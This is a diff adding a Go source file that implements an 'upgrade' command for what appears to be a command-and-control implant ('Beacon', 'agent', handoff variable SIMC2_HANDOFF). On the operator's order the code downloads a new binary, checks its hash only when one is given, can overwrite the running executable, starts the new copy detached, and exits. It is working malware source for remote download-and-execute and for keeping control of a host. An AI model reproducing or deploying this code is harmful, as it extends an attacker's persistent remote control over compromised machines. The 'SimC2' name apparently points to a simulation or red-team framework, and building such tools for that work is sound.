@@ -0,0 +1,148 @@
+package command
+
+import (
+	"crypto/sha256"
+	"encoding/hex"
+	"encoding/json"
+	"fmt"
+	"io"
+	"log"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"time"
+)
+
+// CommandIDUpgrade Upgrade 命令 ID
+const CommandIDUpgrade uint32 = 17
+
+// HandoffEnv 传递给新进程的环境变量，格式为 "<beacon_id>:<upgrade_task_id>"
+const HandoffEnv = "SIMC2_HANDOFF"
+
+// BeaconID 当前 Beacon ID，由 main.go 在 staging 后设置
+var BeaconID string
+
+// UpgradeArgs upgrade 命令参数
+type UpgradeArgs struct {
+	FileSize  int64  `json:"file_size"`
+	ChunkSize int    `json:"chunk_size"`
+	SHA256    string `json:"sha256"`
+	Path      string `json:"path"`    // 可选: 新程序的落地路径
+	Replace   bool   `json:"replace"` // 是否替换当前可执行文件
+}
+
+// UpgradeCommand 下载新版本 agent，启动后由新进程接管当前 Beacon
+type UpgradeCommand struct{}
+
+func init() {
+	Register(&UpgradeCommand{})
+}
+
+func (c *UpgradeCommand) ID() uint32 {
+	return CommandIDUpgrade
+}
+
+func (c *UpgradeCommand) Name() string {
+	return "upgrade"
+}
+
+func (c *UpgradeCommand) Execute(task *Task) ([]byte, error) {
+	var args UpgradeArgs
+	if err := json.Unmarshal(task.Arguments, &args); err != nil {
+		return nil, fmt.Errorf("failed to parse upgrade arguments: %v", err)
+	}
+
+	exe, err := os.Executable()
+	if err != nil {
+		return nil, fmt.Errorf("failed to locate current executable: %v", err)
+	}
+
+	dest := args.Path
+	switch {
+	case args.Replace:
+		dest = exe + ".new"
+	case dest == "":
+		ext := filepath.Ext(exe)
+		name := strings.TrimSuffix(filepath.Base(exe), ext)
+		dest = filepath.Join(os.TempDir(), fmt.Sprintf("%s-%d%s", name, time.Now().Unix(), ext))
+	}
+
+	// 复用文件下载的分块逻辑
+	if err := handleDownload(task.TaskID, FileOpArgs{
+		Source:      "upgrade",
+		Destination: dest,
+		FileSize:    args.FileSize,
+		ChunkSize:   args.ChunkSize,
+	}); err != nil {
+		return nil, err
+	}
+
+	if err := verifySHA256(dest, args.SHA256); err != nil {
+		os.Remove(dest)
+		return nil, err
+	}
+	if err := os.Chmod(dest, 0755); err != nil {
+		os.Remove(dest)
+		return nil, fmt.Errorf("failed to make %s executable: %v", dest, err)
+	}
+
+	target := dest
+	if args.Replace {
+		if err := swapExecutable(exe, dest); err != nil {
+			os.Remove(dest)
+			return nil, err
+		}
+		target = exe
+	}
+
+	cmd := exec.Command(target)
+	cmd.Env = append(os.Environ(), fmt.Sprintf("%s=%s:%s", HandoffEnv, BeaconID, task.TaskID))
+	detach(cmd)
+	if err := cmd.Start(); err != nil {
+		return nil, fmt.Errorf("failed to start upgraded agent: %v", err)
+	}
+
+	// 不回传结果，由新进程 staging 时完成该任务
+	log.Printf("Upgraded agent started from %s (PID %d). Handing off and exiting.", target, cmd.Process.Pid)
+	os.Exit(0)
+	return nil, nil // 永远不会执行到这里
+}
+
+// verifySHA256 校验下载文件的完整性
+func verifySHA256(path string, expected string) error {
+	if expected == "" {
+		return nil
+	}
+	f, err := os.Open(path)
+	if err != nil {
+		return err
+	}
+	defer f.Close()
+
+	h := sha256.New()
+	if _, err := io.Copy(h, f); err != nil {
+		return err
+	}
+	if actual := hex.EncodeToString(h.Sum(nil)); !strings.EqualFold(actual, expected) {
+		return fmt.Errorf("sha256 mismatch: expected %s, got %s", expected, actual)
+	}
+	return nil
+}
+
+// swapExecutable 用新文件替换正在运行的可执行文件
+// Windows 下运行中的文件无法删除但可以重命名，因此先将其移到 .old
+func swapExecutable(exe, newPath string) error {
+	oldPath := exe + ".old"
+	os.Remove(oldPath)
+	if err := os.Rename(exe, oldPath); err != nil {
+		return fmt.Errorf("failed to move current executable: %v", err)
+	}
+	if err := os.Rename(newPath, exe); err != nil {
+		os.Rename(oldPath, exe)
+		return fmt.Errorf("failed to replace executable: %v", err)
+	}
+	// 非 Windows 平台可以直接删除
+	os.Remove(oldPath)
+	return nil
+}